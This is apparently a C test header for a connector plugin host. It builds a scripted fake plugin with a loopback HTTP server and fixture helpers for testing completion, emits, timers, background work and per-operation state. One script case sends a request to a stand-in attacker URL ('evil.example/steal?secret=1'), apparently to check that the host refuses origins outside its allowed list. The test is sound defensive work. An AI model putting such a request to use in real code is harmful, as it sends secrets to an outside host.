/*
 * A connector that does what the test's script says, under the real host, with a loopback server
 * as its help desk.
 */
#ifndef TEST_PLUGIN_FAKE_H
#define TEST_PLUGIN_FAKE_H

#include "base/mem.h"
#include "base/log.h"
#include "net/http.h"
#include "net/serve.h"
#include "plugin/host.h"
#include "plugin/inner.h"
#include "test_net_help.h"

enum script {
  S_DONE_AT_ONCE = 0,
  S_NEVER,
  S_DONE_TWICE,
  S_LATE_EMIT,
  S_TIMER,
  S_HTTP,
  S_HTTP_ELSEWHERE,
  S_EMIT_ALL,
  S_WORK,
  S_LIMITED,
  S_STATE
};

struct conf {
  int64_t number;
};

struct self {
  const struct trg_host *host;
  trg_inst *inst;
  struct conf conf;
  trg_op last;
  int started, closed_states;
  struct trg_http_reply reply; /* status and sent only */
  char why[200];
  char text[64];
};

struct fixture {
  struct loop *l;
  struct http *http;
  struct serve *s;
  struct host *h;
  struct trg_inst *i;
  struct self *self;
  char url[64];
  int served;
  FILE *log;
};

static enum script script;
static struct self *opened;
static int closed;
static atomic_bool work_may_end;

static inline void finish(struct self *s, trg_op op, int32_t outcome) {
  const struct trg_result r = {.outcome = outcome, .code = TRG_STR("code"), .why = TRG_STR("why")};
  s->host->done(op, &r);
}

static inline void on_timer(void *self, trg_op op, void *arg) {
  assert_string_equal(arg, "arg");
  finish(self, op, TRG_DONE);
}

static inline void on_reply(void *self, trg_op op, const struct trg_http_reply *r, void *arg) {
  struct self *s = self;
  (void)arg;
  s->reply.status = r->status;
  s->reply.sent = r->sent;
  (void)snprintf(s->why, sizeof s->why, "%.*s", (int)r->why.n, r->why.n == 0 ? "" : r->why.p);
  if (script == S_LIMITED) s->host->bucket(s->inst, NULL, 0, 400);
  finish(s, op, TRG_DONE);
}

static inline void work(void *arg) {
  (void)arg;
  while (!atomic_load(&work_may_end)) (void)usleep(200);
}

static inline void after_work(void *self, trg_op op, void *arg) {
  assert_string_equal(arg, "work");
  finish(self, op, TRG_DONE);
}

static inline void state_free(void *p) {
  (*(int *)p)++;
}

static inline void ask(struct self *s, trg_op op, const char *url, const char *method) {
  const struct trg_http_request r = {.size = sizeof r, .method = method, .url = {url, strlen(url)}};
  s->host->http(op, &r, on_reply, NULL);
}

static inline void emit_all(struct self *s, trg_op op) {
  const struct trg_notice n = {.size = sizeof n, .id = TRG_STR("1"), .version = TRG_STR("2")};
  const struct trg_message m = {.size = sizeof m, .id = TRG_STR("m")};
  const struct trg_ticket t = {
      .size = sizeof t, .id = TRG_STR("1"), .messages = &m, .message_count = 1};
  const struct trg_receipt r = {.size = sizeof r, .kind = TRG_STR("note")};
  const struct trg_model_reply reply = {.size = sizeof reply, .text = TRG_STR("x")};
  s->host->emit_notice(op, &n);
  s->host->set_cursor(op, TRG_STR("c"), true);
  s->host->emit_ticket(op, &t);
  s->host->emit_receipt(op, &r);
  s->host->emit_reply(op, &reply);
}

static inline void play(void *self, trg_op op) {
  struct self *s = self;
  static char url[128];
  s->last = op;
  s->started++;
  switch (script) {
  case S_DONE_AT_ONCE:
    finish(s, op, TRG_DONE);
    break;
  case S_NEVER:
    break;
  case S_DONE_TWICE:
    finish(s, op, TRG_DONE);
    finish(s, op, TRG_REJECTED);
    finish(s, op, TRG_REJECTED);
    break;
  case S_LATE_EMIT:
    finish(s, op, TRG_DONE);
    emit_all(s, op);
    break;
  case S_TIMER:
    s->host->timer(op, 2, on_timer, (void *)(uintptr_t) "arg");
    break;
  case S_LIMITED:
  case S_HTTP:
    (void)snprintf(url, sizeof url, "%s/x", s->text);
    ask(s, op, url, s->conf.number == 7 ? "POST" : "GET");
    break;
  case S_HTTP_ELSEWHERE:
    ask(s, op, "https://evil.example/steal?secret=1", "GET");
    break;
  case S_EMIT_ALL:
    emit_all(s, op);
    finish(s, op, TRG_DONE);
    break;
  case S_WORK:
    s->host->work(op, work, after_work, (void *)(uintptr_t) "work");
    break;
  case S_STATE:
    s->host->op_set(op, &s->closed_states, state_free);
    assert_ptr_equal(s->host->op_get(op), &s->closed_states);
    finish(s, op, TRG_DONE);
    assert_null(s->host->op_get(op));
    assert_int_equal(s->closed_states, 0); /* the plugin may still be using it */
    break;
  }
}

static inline void play_text(void *self, trg_op op, struct trg_str text) {
  struct self *s = self;
  if (script != S_HTTP && script != S_LIMITED)
    (void)snprintf(s->text, sizeof s->text, "%.*s", (int)text.n, text.p);
  play(self, op);
}

static inline void play_poll(void *self, trg_op op, struct trg_str cursor, int64_t since_ms) {
  (void)since_ms;
  play_text(self, op, cursor);
}

static inline void play_action(void *self, trg_op op, const struct trg_action *a) {
  assert_int_equal(a->size, sizeof *a);
  play_text(self, op, a->add_tag_count > 0 ? a->add_tags[0] : a->ticket_id);
}

static inline int fake_open(const struct trg_host *host, trg_inst *inst, const void *conf,
                            void **ret, struct trg_err *err) {
  struct self *s = calloc(1, sizeof *s);
  s->host = host;
  s->inst = inst;
  memcpy(&s->conf, conf, sizeof s->conf);
  if (s->conf.number < 0) {
    (void)snprintf(err->text, sizeof err->text, "the number is negative");
    free(s);
    return -1;
  }
  opened = s;
  *ret = s;
  return 0;
}

static inline void fake_close(void *self) {
  closed++;
  free(self);
}

static const struct trg_connector_ops fake_ops = {.size = sizeof fake_ops,
                                                  .caps = TRG_CAN_NOTE,
                                                  .probe = play,
                                                  .poll = play_poll,
                                                  .fetch = play_text,
                                                  .write = play_action,
                                                  .find = play_action};
static const struct trg_plugin fake = {.abi_major = TRG_ABI_MAJOR,
                                       .size = sizeof fake,
                                       .kind = TRG_CONNECTOR,
                                       .name = "fake",
                                       .version = "1",
                                       .license = "x",
                                       .conf_size = sizeof(struct conf),
                                       .open = fake_open,
                                       .close = fake_close,
                                       .ops = &fake_ops};

static inline void on_request(void *arg, const struct serve_request *r) {
  struct fixture *f = arg;
  f->served++;
  if (script != S_NEVER && memcmp(r->path.p, "/x", 2) == 0)
    serve_answer(f->s, r->id, 200, TRG_STR("text/plain"), NULL, 0, TRG_STR("ok"));
}

static inline struct trg_inst *open_inst(struct fixture *f, int64_t number, int max_in_flight) {
  const struct conf conf = {.number = number};
  const char *const origins[] = {"file:///tmp", f->url};
  const struct inst_options o = {.plugin = &fake,
                                 .name = "support",
                                 .conf = &conf,
                                 .origins = origins,
                                 .origin_count = 2,
                                 .max_in_flight = max_in_flight,
                                 .user = f};
  struct trg_inst *i = NULL;
  struct trg_err err = {0};
  assert_int_equal(inst_open(f->h, &o, &i, &err), 0);
  (void)snprintf(opened->text, sizeof opened->text, "%s", f->url);
  return i;
}

static inline int setup(void **state) {
  struct fixture *f = calloc(1, sizeof *f);
  f->log = tmpfile();
  log_init(TRG_DEBUG, LOG_TEXT, f->log);
  f->l = loop_new(NULL);
  f->http = http_new(f->l, NULL);
  const struct serve_options o = {.on_request = on_request, .arg = f, .connections_max = 2000};
  f->s = serve_new(f->l, &o, NULL);
  (void)snprintf(f->url, sizeof f->url, "http://127.0.0.1:%d", serve_port(f->s));
  f->h = host_new(f->l, f->http);
  script = S_DONE_AT_ONCE;
  closed = 0;
  atomic_store(&work_may_end, false);
  f->i = open_inst(f, 1, 0);
  f->self = opened;
  *state = f;
  return 0;
}

static inline int teardown(void **state) {
  struct fixture *f = *state;
  host_free(&f->h);
  http_free(&f->http);
  serve_free(&f->s);
  loop_free(&f->l);
  log_init(TRG_INFO, LOG_TEXT, NULL);
  (void)fclose(f->log);
  free(f);
  return 0;
}

static inline int log_lines(struct fixture *f, const char *word) {
  char line[1024];
  int n = 0;
  (void)fflush(f->log);
  rewind(f->log);
  while (fgets(line, sizeof line, f->log) != NULL) n += strstr(line, word) != NULL;
  return n;
}

struct got {
  int done, notices, cursors, tickets, receipts, replies;
  int32_t outcome;
  uint32_t flags;
  char code[32], why[200];
  bool in_start;
  int64_t retry_after_ms;
  struct host *cancel_host;
  trg_op cancel_op;
  struct trg_inst *start_again;
};

static const struct op_events events;

static inline void got_done(void *arg, const struct trg_result *r) {
  struct got *g = arg;
  assert_false(g->in_start);
  g->done++;
  g->outcome = r->outcome;
  g->flags = r->flags;
  g->retry_after_ms = r->retry_after_ms;
  (void)snprintf(g->code, sizeof g->code, "%.*s", (int)r->code.n, r->code.p);
  (void)snprintf(g->why, sizeof g->why, "%.*s", (int)r->why.n, r->why.p);
  if (g->start_again != NULL && g->done < 3) (void)op_probe(g->start_again, &events, g, 1000);
}

static inline void got_notice(void *arg, const struct trg_notice *n) {
  struct got *g = arg;
  assert_false(g->in_start);
  assert_int_equal(n->id.n, 1);
  g->notices++;
  if (g->cancel_host != NULL) op_cancel(g->cancel_host, g->cancel_op);
}

static inline void got_cursor(void *arg, struct trg_str cursor, bool more) {
  ((struct got *)arg)->cursors++;
  assert_true(cursor.n == 1 && more);
}

static inline void got_ticket(void *arg, const struct trg_ticket *t) {
  ((struct got *)arg)->tickets++;
  assert_int_equal(t->message_count, 1);
}

static inline void got_receipt(void *arg, const struct trg_receipt *r) {
  (void)r;
  ((struct got *)arg)->receipts++;
}

static inline void got_reply(void *arg, const struct trg_model_reply *r) {
  (void)r;
  ((struct got *)arg)->replies++;
}

static const struct op_events events = {got_notice, got_cursor, got_ticket, got_receipt,
                                        got_reply,  got_done,   NULL,       NULL};

static inline bool is_done(void *arg) {
  return ((struct got *)arg)->done > 0;
}
static inline bool is_started(void *arg) {
  return ((struct self *)arg)->started > 0;
}
static inline bool is_served(void *arg) {
  return ((struct fixture *)arg)->served > 0;
}
static inline bool is_closed(void *arg) {
  (void)arg;
  return closed > 0;
}

static inline void probe(struct fixture *f, struct got *g, int64_t deadline_ms) {
  g->in_start = true;
  assert_int_not_equal(op_probe(f->i, &events, g, deadline_ms), 0);
  g->in_start = false;
}

static inline void probe_done(struct fixture *f, struct got *g) {
  probe(f, g, 3000);
  assert_true(run_until(f->l, is_done, g, 4000));
}

#endif
